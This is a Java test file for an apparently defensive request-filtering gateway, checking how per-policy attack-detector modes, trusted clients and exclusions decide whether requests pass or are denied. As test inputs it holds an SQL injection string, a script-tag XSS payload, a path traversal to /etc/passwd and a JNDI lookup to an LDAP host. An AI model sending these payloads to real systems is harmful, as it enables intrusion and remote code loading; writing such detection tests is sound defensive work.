package dev.portcullis.config;

import static dev.portcullis.config.Gates.CLIENTS;
import static dev.portcullis.config.Gates.file;
import static dev.portcullis.config.Gates.gate;
import static dev.portcullis.config.Gates.get;
import static dev.portcullis.config.Gates.json;
import static dev.portcullis.config.Gates.keyed;
import static dev.portcullis.config.Gates.met;
import static dev.portcullis.config.Gates.outcome;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.portcullis.attack.Attacks;
import dev.portcullis.http.RecordedWire;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/** What a policy says of attacks: single detectors, trusted callers, exclusions. */
class AttackSettingsTest {

    private static final String SQL = "1%27+or+%271%27=%271";
    private static final String SCRIPT = "%3Cscript%20src=a.js%3E";
    private static final String DENIED = "a.attacks 403 attack-detected";

    private static String policy(String attacks) {
        return "policies: { a: { paths: [/**], public: true, attacks: " + attacks + " } }";
    }

    private static void denied(String yaml, String... texts) {
        assertThatThrownBy(() -> gate(yaml))
                .isInstanceOf(ConfigurationException.class)
                .satisfies(e -> {
                    for (var text : texts) {
                        assertThat(e.getMessage()).contains(text);
                    }
                });
    }

    @Test
    void oneDetectorIsObservedWhileTheOthersAreEnforced() {
        try (var gate = gate(policy("{ detectors: { sql-injection: { mode: observe } } }"))) {
            assertThat(met(gate, get("/"))).contains("a.attacks-observed (observed)", "a.attacks");
            assertThat(outcome(gate, get("/?q=" + SQL))).isEqualTo("proceed");
            assertThat(outcome(gate, get("/?q=" + SCRIPT))).isEqualTo(DENIED);
        }
    }

    @Test
    void oneDetectorIsEnforcedWhileTheOthersAreObserved() {
        try (var gate = gate(policy("{ mode: observe, detectors: { sql-injection: { mode: enforce } } }"))) {
            assertThat(outcome(gate, get("/?q=" + SQL))).isEqualTo("a.attacks-enforced 403 attack-detected");
            assertThat(outcome(gate, get("/?q=" + SCRIPT))).isEqualTo("proceed");
        }
    }

    @Test
    void oneDetectorIsOffOrLessSuspicious() {
        var yaml = policy("{ detectors: { sql-injection: { mode: off }, cross-site-scripting: { level: low } } }");
        try (var gate = gate(yaml)) {
            assertThat(outcome(gate, get("/?q=" + SQL))).isEqualTo("proceed");
            assertThat(outcome(gate, get("/?q=" + SCRIPT))).isEqualTo("proceed");
            assertThat(outcome(gate, get("/?q=../../etc/passwd"))).isEqualTo(DENIED);
        }
    }

    @Test
    void aTrustedClientIsDeniedForLess() {
        var yaml = CLIENTS
                + "policies: { a: { paths: [/**], authenticate: [api-key], attacks: {"
                + " trusted: { clients: [acme] }, detectors: { cross-site-scripting: { level: strict } } } } }";
        try (var gate = gate(yaml)) {
            assertThat(outcome(gate, keyed(get("/?q=" + SCRIPT)))).isEqualTo("proceed");
            assertThat(outcome(gate, keyed(get("/?q=$%7Bjndi:ldap://203.0.113.7/a%7D"))))
                    .isEqualTo(DENIED);
        }
        try (var gate = gate(yaml.replace("[acme]", "[other]"))) {
            assertThat(outcome(gate, keyed(get("/?q=" + SCRIPT)))).isEqualTo(DENIED);
        }
    }

    @Test
    void anExclusionIsForOnePlaceOfSomePaths() {
        var yaml = policy(
                "{ exclude: [ { detector: sql-injection, in: json, parameter: /note, paths: [\"/comments/{id}\"] } ] }");
        var body = "{\"note\": \"1' or '1'='1\"}";
        try (var gate = gate(yaml)) {
            assertThat(outcome(gate, json("/comments/7", body))).isEqualTo("proceed");
            assertThat(outcome(gate, json("/comments", body))).isEqualTo(DENIED);
            assertThat(outcome(gate, get("/comments/7?note=" + SQL))).isEqualTo(DENIED);
        }
    }

    @Test
    void anExclusionMayBeForABodyOfText() {
        var request = RecordedWire.of("POST", "/notes")
                .with("Content-Type", "text/plain")
                .body("1' or '1'='1");
        try (var gate = gate(policy("{ exclude: [ { detector: sql-injection, in: text, parameter: \"*\" } ] }"))) {
            assertThat(outcome(gate, request)).isEqualTo("proceed");
            assertThat(outcome(gate, get("/?q=" + SQL))).isEqualTo(DENIED);
        }
        try (var gate = gate(policy("{ exclude: [ { detector: sql-injection, in: form, parameter: \"*\" } ] }"))) {
            assertThat(outcome(gate, request)).isEqualTo(DENIED);
        }
    }

    @Test
    void allDetectorsMayBeLenientOfOneParameter() {
        try (var gate = gate(policy("{ exclude: [ { detector: \"*\", parameter: text, level: low } ] }"))) {
            assertThat(outcome(gate, get("/?text=" + SCRIPT))).isEqualTo("proceed");
            assertThat(outcome(gate, get("/?text=$%7Bjndi:ldap://203.0.113.7/a%7D")))
                    .isEqualTo(DENIED);
        }
    }

    @Test
    void everyMistakeIsTold() {
        denied(
                policy("{ detectors: { sqli: { mode: off } } }"),
                "policies.a.attacks.detectors.sqli",
                "no detector `sqli`",
                "sql-injection");
        denied(policy("{ trusted: {} }"), "policies.a.attacks.trusted", "trusts nobody");
        denied(
                policy("{ exclude: [ { detector: \"*\", parameter: a } ] }"),
                "policies.a.attacks.exclude[0]",
                "nobody says why");
        denied(
                policy("{ exclude: [ { detector: sql-injection, parameter: a, in: body, level: strict } ] }"),
                "policies.a.attacks.exclude[0].in",
                "policies.a.attacks.exclude[0].level");
        denied(
                policy("{ multipart: ignore }, form: { fields: [a] }"),
                "policies.a.attacks.multipart",
                "read multipart forms in any case");
        denied(
                policy("{ exclude: [ { detector: sql-injection, parameter: a, in: text } ] }"),
                "policies.a.attacks.exclude[0].parameter",
                "no parameters");
        denied(
                policy("{ exclude: [ { detector: xss, parameter: a, paths: [a] } ] }"),
                "policies.a.attacks.exclude[0].detector",
                "policies.a.attacks.exclude[0].paths[0]");
    }

    @Test
    void allDetectorsOffIsAMistake() {
        var off = new StringBuilder("{ detectors: { ");
        Attacks.detectors().forEach(id -> off.append(id).append(": { mode: \"off\" }, "));
        denied(policy(off.append("} }").toString().replace(", }", " }")), "all detectors are off");
    }

    @Test
    void aDetectorThatIsObservedIsTold() {
        var yaml = policy("{ detectors: { sql-injection: { mode: observe } } }");
        assertThat(Lint.of(file(yaml), Resources.in(Path.of(""), AttackSettingsTest.class.getClassLoader())))
                .extracting(finding -> finding.problem().key())
                .contains("policies.a.attacks.detectors.sql-injection.mode");
    }
}
